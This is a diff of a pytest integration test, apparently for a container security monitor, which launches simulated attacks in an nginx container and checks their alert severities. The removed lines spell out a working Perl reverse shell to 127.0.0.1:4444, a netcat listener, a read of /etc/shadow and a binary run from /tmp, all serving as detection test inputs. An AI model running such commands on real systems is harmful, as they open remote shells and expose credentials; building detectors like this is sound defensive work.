@@ -9,38 +9,23 @@ at the severity the README's scale gives it (issue 20 items 1, 2 and its Done-wh
 
 from __future__ import annotations
 
-import json
 import subprocess
 import sys
 import time
 from contextlib import contextmanager
 from pathlib import Path
-from typing import Any, Iterator
+from typing import Any, Callable, Iterator
 
 import pytest
 
+from bench.debian_workload import findings, run_attacks, workload
 from tests.prereqs import missing
 from tests.waiting import wait_for
 
 pytestmark = [pytest.mark.kernel, pytest.mark.docker]
 IMAGE = "cgsentry/debian-nginx:latest"
 SHELL_RULE = "Shell Spawned by Non-Shell Program in Container"
-# The compressed schedule: a health check every ~0.5 s, a reload every 8th, a rotation every 16th.
-WORKLOAD = r"""
-nginx
-i=0
-while true; do
-  perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new("127.0.0.1:80") or exit 1;
-    print $s "GET / HTTP/1.0\r\n\r\n"; 1 while <$s>' || echo "health check failed"
-  i=$((i + 1))
-  if [ $((i % 8)) -eq 0 ]; then nginx -s reload; echo reloaded; fi
-  if [ $((i % 16)) -eq 0 ]; then logrotate -f /etc/logrotate.d/nginx; echo rotated; fi
-  sleep 0.5
-done
-"""
-PERL_REVERSE_SHELL = ('use Socket; socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp")); '
-                      'connect(S, sockaddr_in(4444, inet_aton("127.0.0.1"))) or die; '
-                      'open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh -i");')
+WORKLOAD = workload(health_s=0.5, reload_every=8, rotate_every=16)  # the compressed schedule
 
 
 @contextmanager
@@ -61,21 +46,11 @@ def daemon(state: Path, *extra: str) -> Iterator[Path]:
     assert proc.returncode == 0, out.read_text()[-2000:]
 
 
-def findings(out: Path, name: str, mode: str) -> list[dict[str, Any]]:
-    lines = [json.loads(line) for line in out.read_text().splitlines() if line.startswith("{")]
-    return [f for f in lines if f["mode"] == mode and name in f["output"]]
-
-
 def counts(c: Any) -> tuple[int, int]:
     """(reloads, rotations) the workload has done so far, over restarts too."""
     logs = c.logs().decode()
     assert "health check failed" not in logs, logs[-2000:]
     return logs.count("reloaded"), logs.count("rotated")
-
-
-def exec_in(c: Any, *argv: str, stdin: str | None = None, detach: bool = False) -> None:
-    cmd = ["docker", "exec", *(["-d"] if detach else []), *(["-i"] if stdin is not None else []), c.id, *argv]
-    subprocess.run(cmd, input=stdin, capture_output=True, text=True, timeout=30)
 
 
 def test_debian_nginx_learns_then_is_quiet_and_attacks_are_found(tmp_path: Path, docker_client, busybox) -> None:  # type: ignore[no-untyped-def]
@@ -105,34 +80,17 @@ def test_debian_nginx_learns_then_is_quiet_and_attacks_are_found(tmp_path: Path,
         quiet = findings(out, c.name, "alert")
         assert quiet == [], quiet  # the whole routine, a restart and two rotations included: nothing
 
-        attacks = found_attacks(out, c)
-    assert attacks == {"operator session": "NOTICE", "reverse shell": "CRITICAL", "shadow read": "ERROR",
-                       "binary from /tmp": "ERROR", "netcat": "WARNING"}, attacks
+        attacks = run_attacks(out, c.id, c.name, passes)
+    assert all(a["found"] for a in attacks.values()), attacks
+    assert {k: a["priority"] for k, a in attacks.items()} == {k: a["expected"] for k, a in attacks.items()} == {
+        "operator session": "NOTICE", "reverse shell": "CRITICAL", "shadow read": "ERROR",
+        "binary from /tmp": "ERROR", "netcat": "WARNING"}, attacks
 
 
-def found_attacks(out: Path, c: Any) -> dict[str, str]:
-    """Each attack in turn; what it was found as: the highest priority of its expected rule's findings
-    (an operator's session: the highest of all its findings)."""
-    order = ["EMERGENCY", "ALERT", "CRITICAL", "ERROR", "WARNING", "NOTICE", "INFORMATIONAL", "DEBUG"]
-    result: dict[str, str] = {}
-
-    def run(label: str, rule: str | None, *steps: tuple[tuple[str, ...], dict[str, Any]]) -> None:
-        before = len(findings(out, c.name, "alert"))
-        for argv, kw in steps:
-            exec_in(c, *argv, **kw)
-        new = lambda: findings(out, c.name, "alert")[before:]  # noqa: E731
-        wait_for(lambda: any(rule is None or f["rule"] == rule for f in new()), timeout_s=20)
-        time.sleep(1)  # the rest of its findings (the model's, the rule's)
-        hits = [f["priority"] for f in new() if rule is None or f["rule"] == rule]
-        result[label] = min(hits, key=order.index)
-
-    run("operator session", None, (("sh",), {"stdin": "exit\n"}))
-    run("reverse shell", "Reverse Shell in Container",
-        (("sh", "-c", "sleep 20 | nc -l 127.0.0.1 4444 >/dev/null"), {"detach": True}),
-        (("sleep", "0.5"), {}),
-        (("perl", "-e", PERL_REVERSE_SHELL), {"detach": True}))
-    run("shadow read", "Read Sensitive File in Container", (("cat", "/etc/shadow"), {}))
-    run("binary from /tmp", "Drift Executable Run From Temporary Directory",
-        (("sh", "-c", "cp /bin/ls /tmp/x && /tmp/x / >/dev/null"), {}))
-    run("netcat", "Network Tool Launched in Container", (("nc", "-z", "127.0.0.1", "9"), {}))
-    return result
+def passes(pred: Callable[[], bool], timeout_s: float) -> bool:
+    """``pred()`` became true within ``timeout_s`` (an attack not found is asserted by the caller)."""
+    try:
+        wait_for(pred, timeout_s=timeout_s)
+    except AssertionError:
+        return False
+    return True
